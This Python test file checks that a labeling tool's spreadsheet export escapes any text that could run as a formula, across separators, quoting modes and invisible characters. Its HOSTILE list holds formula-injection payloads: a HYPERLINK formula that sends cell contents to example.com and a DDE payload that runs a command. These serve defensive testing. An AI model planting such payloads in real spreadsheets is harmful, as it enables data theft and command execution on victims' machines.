"""Test that no text on a sheet can run as a formula, whatever separator the spreadsheet program uses."""

from __future__ import annotations

import csv
import io
import itertools
import time
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from include.distill.labeling.formula_escapes import escape_formulas
from include.distill.labeling.records import LabelExample
from include.distill.labeling.sheets import has_labels, read_sheet, render_sheet
from tests.distill.labeling.example_sample import sample
from tests.fakes.each_case import each_case

FORMULA_STARTS = set("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212")
IGNORED = ' \x00\x01\xa0\u3000\xad\u200b\ufeff"\t\r\n\v\f\x85\u2028\u202e\u2066\u180e\ufe0f\u3164\U000e0020'
HOSTILE = [
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\uff1d1+1",
    "\ufe661+1",
    "\u22121+1",
]
BEFORE = [
    "",
    "Yes.\n",
    "Yes.\r\n",
    "Yes.\r",
    "Yes;",
    "Yes; ",
    "Yes\t",
    "Yes\t\t ",
    "Yes,",
    'Yes;"',
    "Yes|",
    "Yes| ",
    "Yes;\u202e",
    "Yes;\u2066",
    "Yes;\u180e",
    "Yes;\ufe0f",
    "Yes;\u3164",
    "Yes;\U000e0020",
    'Yes; ""',
    "Yes;\u200b",
    "Yes;\xa0",
    "Yes;\ufeff",
    "Yes;\x00",
    'Yes;"\n',
    "a;b;c;;\t",
    "\n\n\n",
    "Yes.\v",
    "Yes.\x85",
    "Yes.\u2028",
]
SEPARATORS = [",", ";", "\t"]
READERS: dict[str, dict[str, Any]] = {
    "comma": {"delimiter": ",", "quoting": csv.QUOTE_MINIMAL},
    "semicolon": {"delimiter": ";", "quoting": csv.QUOTE_MINIMAL},
    "tab": {"delimiter": "\t", "quoting": csv.QUOTE_MINIMAL},
    "vertical bar": {"delimiter": "|", "quoting": csv.QUOTE_MINIMAL},
    "comma without quotes": {"delimiter": ",", "quoting": csv.QUOTE_NONE},
    "semicolon without quotes": {"delimiter": ";", "quoting": csv.QUOTE_NONE},
    "tab without quotes": {"delimiter": "\t", "quoting": csv.QUOTE_NONE},
}


def sheet_with(text: str) -> list[LabelExample]:
    """Return a sample in which every text is ``text``."""
    return [
        {**one, "question": text, "document": f"d {text}", "answer_a": f"a;{text}", "answer_b": text}
        for one in sample(2)
    ]


def formulas(body: str, **reader: Any) -> list[str]:
    """Return the cells that a spreadsheet program would evaluate."""
    cells = [cell for row in csv.reader(io.StringIO(body, newline=""), **reader) for cell in row]
    return [cell for cell in cells if set(cell.lstrip(IGNORED)[:1]) & FORMULA_STARTS]


def test_no_program_evaluates_a_part_of_an_answer() -> None:
    with each_case() as case:
        for before, formula in itertools.product(BEFORE, HOSTILE):
            body = render_sheet(sheet_with(before + formula)).decode("utf-8-sig")
            for program, reader in READERS.items():
                with case(before, formula, program):
                    assert formulas(body, **reader) == []


@settings(max_examples=400, deadline=None)
@given(st.text(f"=-@\uff1d'a1,;{IGNORED}", max_size=14))
@example(';"\n=1')
@example('";"=1";"=2')
def test_no_text_becomes_a_cell_that_a_program_evaluates(text: str) -> None:
    body = render_sheet(sheet_with(text)).decode("utf-8-sig")
    for reader in READERS.values():
        assert formulas(body, **reader) == []


def test_a_sheet_that_was_saved_with_the_wrong_separator_contains_no_formula() -> None:
    with each_case() as case:
        for before in BEFORE:
            body = render_sheet(sheet_with(f"{before}=1+1 and, =2+2")).decode("utf-8-sig")
            for first, second in itertools.product(SEPARATORS, SEPARATORS):
                with case(before, first, second):
                    saved = io.StringIO(newline="")
                    csv.writer(saved, delimiter=first).writerows(
                        csv.reader(io.StringIO(body, newline=""), delimiter=first)
                    )
                    assert formulas(saved.getvalue(), delimiter=second) == []


@pytest.mark.parametrize("text", ["\tx", "\r\nx", " \nx", "\x00\tx"])
def test_a_tab_or_a_line_break_does_not_begin_a_cell(text: str) -> None:
    assert escape_formulas(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Yes.",
        "a = b",
        "1+1=2",
        "well-known",
        "ada@example.com",
        "x; y, z\tw\nv",
        "5 - 3",
        "'quoted'",
        '"Quoted"; "more"',
        "Use `x=1`.\nThen stop.",
        "a,b;c",
        "Déjà vu; naïve",
        "李雷; Анна",
        "(=1)",
        "`-v`\n`-x`",
    ],
)
def test_text_that_no_program_evaluates_is_not_changed(text: str) -> None:
    assert escape_formulas(text) == text


@given(st.text("=-@,;\t\r\n '\"a", max_size=20))
def test_escaping_only_adds_apostrophes(text: str) -> None:
    assert escape_formulas(text).replace("'", "") == text.replace("'", "")


def test_the_labels_on_an_escaped_sheet_are_read_back() -> None:
    with each_case() as case:
        for before, separator in itertools.product(BEFORE, SEPARATORS):
            with case(before, separator):
                examples = sheet_with(f"{before}=1+1")
                body = render_sheet(examples)
                assert not has_labels(body, examples)
                rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
                saved = io.StringIO(newline="")
                csv.writer(saved, delimiter=separator).writerows([rows[0], *([*row[:-1], "B"] for row in rows[1:])])
                labels = read_sheet(saved.getvalue().encode("utf-8-sig"), examples, source="s.csv").labels
                assert list(labels.values()) == ["B", "B"]


@pytest.mark.parametrize("text", [";" * 300_000, " " * 300_000, ';"' * 150_000, "\n" * 300_000, "; " * 150_000 + "="])
def test_escaping_takes_linear_time(text: str) -> None:
    began = time.process_time()
    escape_formulas(text)
    assert time.process_time() - began < 2
